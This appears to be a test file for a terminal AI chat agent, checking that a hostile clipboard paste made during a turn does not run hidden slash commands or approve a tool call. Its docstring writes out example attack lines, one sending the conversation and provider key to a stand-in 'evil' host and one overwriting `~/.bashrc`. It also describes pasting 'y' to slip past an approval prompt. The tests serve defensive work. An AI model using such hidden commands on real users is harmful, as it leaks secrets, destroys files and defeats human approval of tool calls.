"""Attack: a hostile clipboard ("pastejacking"). A web page puts hidden lines into what the
person copies; they paste it into the chat while the model is still answering. At the prompt,
bracketed paste keeps a paste from pressing Enter: the text waits in the prompt, where it can
be read before it is sent. While a turn runs, the keys are read by agent's own type-ahead
reader, and a paste the terminal does not mark as one arrives as typed keys: each line break
is an Enter, so every hidden line is queued as a message of its own, and a line starting with
`/` runs as a slash command when its turn comes (`/model NAME https://evil/v1` sends the whole
conversation and the provider key there; `/export ~/.bashrc` overwrites the file).

The terminal here is played as a real one plays it: a paste is wrapped in the bracketed-paste
markers only while the program has bracketed paste mode on (`ESC [?2004h`, last set before
the paste). The real `agent` chat in a pseudo-terminal, the scripted model as a process."""

from __future__ import annotations

import io
import time
from pathlib import Path

import pexpect

from tests.pty_chat import scripted_chat

PASTE_ON, PASTE_OFF = "\x1b[?2004h", "\x1b[?2004l"
PASTE_START, PASTE_END = "\x1b[200~", "\x1b[201~"
SLOW = {"text": "Working on it, slowly.", "chunk_delay": 0.5, "text_chunks": 8}


def paste(chat: pexpect.spawn, drawn: io.StringIO, text: str) -> None:
    """Paste `text` as a terminal does: bracketed only if the program last turned that on."""
    shown = drawn.getvalue()
    bracketed = shown.rfind(PASTE_ON) > shown.rfind(PASTE_OFF)
    chat.send(f"{PASTE_START}{text}{PASTE_END}" if bracketed else text)


def test_a_paste_during_a_turn_presses_no_enter_and_runs_no_hidden_slash_command(
    tmp_path: Path, chat_env: dict[str, str]
) -> None:
    exported = tmp_path / "overwritten.md"
    hidden = f"pip install requests\r/export {exported}\rsay yes\r"
    turns = [SLOW, {"text": "Second answer."}]
    with scripted_chat(tmp_path, turns, chat_env) as (chat, fake):
        drawn = io.StringIO()
        chat.logfile_read = drawn
        chat.expect("›")
        chat.send("hello\r")
        chat.expect("Working")
        time.sleep(0.3)  # the turn's reader is on (it takes the terminal as the prompt ends)
        paste(chat, drawn, hidden)
        chat.expect("slowly")
        chat.expect("›")  # the turn ended and the prompt is back
        time.sleep(1.5)  # long enough for a queued line to run or be sent
        # The paste waits in the prompt, whole, for the person's Enter; Ctrl-C clears it.
        chat.send("\x03")
        time.sleep(0.3)
        chat.send("/exit\r")
        chat.expect(pexpect.EOF)
        requests = fake.requests()
    assert not exported.exists(), "a line of the paste ran as /export"
    assert "queued:" not in drawn.getvalue()
    # The paste came back into the prompt, to be read, sent with Enter or cleared.
    assert "› pip install requests" in drawn.getvalue()
    # Nothing of the paste was sent by itself: the model saw only the typed message.
    assert len(requests) == 1


def test_a_paste_of_y_and_enter_at_an_open_approval_answers_nothing(
    tmp_path: Path, trusted_fixture_server: None, chat_env: dict[str, str]
) -> None:
    # The person pastes at the wrong moment: the approval is on screen and armed.
    call = {"id": "c1", "name": "mcp__fx__echo", "arguments": {"text": "x"}}
    turns = [{"tool_calls": [call]}, {"text": "Fine, not run."}]
    with scripted_chat(tmp_path, turns, chat_env) as (chat, fake):
        drawn = io.StringIO()
        chat.logfile_read = drawn
        chat.expect("MCP server fx ready")
        chat.expect("›")
        chat.send("go\r")
        chat.expect("Approve\\?")
        time.sleep(0.5)  # armed: the keyboard was quiet as it appeared
        paste(chat, drawn, "y\r")
        time.sleep(1.0)  # a dialog that took the paste's y would have closed by now
        chat.send("n")
        chat.expect("Fine, not run.")
        chat.expect("›")
        chat.send("\x03")
        time.sleep(0.3)
        chat.send("/exit\r")
        chat.expect(pexpect.EOF)
        requests = fake.requests()
    assert requests[1]["body"]["messages"][-1]["content"] == (
        "Error: The person declined this tool call."
    )
